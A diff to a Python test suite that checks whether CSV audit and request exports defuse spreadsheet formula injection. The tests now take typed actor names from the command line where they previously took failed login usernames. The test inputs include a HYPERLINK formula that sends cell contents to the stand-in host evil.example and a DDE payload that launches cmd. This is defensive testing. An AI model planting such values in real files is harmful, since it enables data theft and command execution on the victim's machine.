@@ -1,5 +1,5 @@
 """CSV exports opened in a spreadsheet: text typed at a counter or at the
-login page that starts like a formula (= + - @, a tab or a carriage
+command line that starts like a formula (= + - @, a tab or a carriage
 return) comes out with a leading apostrophe, so the spreadsheet shows it
 instead of running it; parsed back, every other cell is unchanged."""
 
@@ -10,6 +10,9 @@ import io
 import os
 import subprocess
 import sys
+
+from fallback.ops import open_ops
+from fallback.staff import users
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "@SUM(1+1)*cmd|' /C calc'!A0", "+81-90-1234-5678", "-2+3",
             "\t=1+1", "\r=1+1"]
@@ -40,29 +43,31 @@ def test_deferred_requests_csv_keeps_formulas_as_text(login, downtime):
     assert [row[6] for row in rows[1:]] == [f"山田　{index}" for index in range(len(FORMULAS))]  # other cells as typed
 
 
-def failed_logins(appliance, usernames):
-    client = appliance.test_client()
-    csrf = client.get("/api/v1/session").get_json()["csrf_token"]
-    for index, username in enumerate(usernames):
-        client.environ_base["REMOTE_ADDR"] = f"10.60.0.{index + 1}"
-        answer = client.post("/api/v1/session", json={"username": username, "password": "x"},
-                             headers={"X-CSRF-Token": csrf})
-        assert answer.status_code == 401
+def actions_by(appliance, actors):
+    """Each of `actors` disables an account, as `sonae user disable --actor
+    ACTOR` records it: the operator's name is text typed at the command line
+    (a name typed at the login page is never kept: see test_login)."""
+    conn = open_ops(appliance.config["SONAE"])
+    try:
+        for actor in actors:
+            users.set_disabled(conn, "clerk2", True, actor=actor)
+    finally:
+        conn.close()
 
 
-def test_audit_csv_keeps_typed_usernames_as_text(appliance, login):
-    usernames = ['=HYPERLINK("http://evil.example","x")', "@SUM(1+1)", "+cmd", "-1", "\t=2+2"]
-    failed_logins(appliance, usernames)
-    text = login("aud").get("/audit/export.csv?action=login.failed").get_data(as_text=True)
+def test_audit_csv_keeps_typed_actors_as_text(appliance, login):
+    actors = ['=HYPERLINK("http://evil.example","x")', "@SUM(1+1)", "+cmd", "-1", "\t=2+2"]
+    actions_by(appliance, actors)
+    text = login("aud").get("/audit/export.csv?action=user.disable").get_data(as_text=True)
     rows = parse(text)
     assert rows[0] == ["id", "at", "actor", "action", "target", "detail", "drill", "hash"]
-    assert sorted(row[2] for row in rows[1:]) == sorted("'" + name for name in usernames)
-    assert_no_live_formula(rows, usernames)
+    assert sorted(row[2] for row in rows[1:]) == sorted("'" + name for name in actors)
+    assert_no_live_formula(rows, actors)
 
 
 def test_the_audit_export_command_keeps_formulas_as_text(appliance):
-    failed_logins(appliance, ["=1+1", "@A1"])
-    out = subprocess.run([sys.executable, "-m", "fallback.cli", "audit", "export", "--action", "login.failed", "--format", "csv"],
+    actions_by(appliance, ["=1+1", "@A1"])
+    out = subprocess.run([sys.executable, "-m", "fallback.cli", "audit", "export", "--action", "user.disable", "--format", "csv"],
                          capture_output=True, text=True, env=dict(os.environ), check=True).stdout
     rows = parse(out)
     assert [row[2] for row in rows[1:]] == ["'=1+1", "'@A1"]
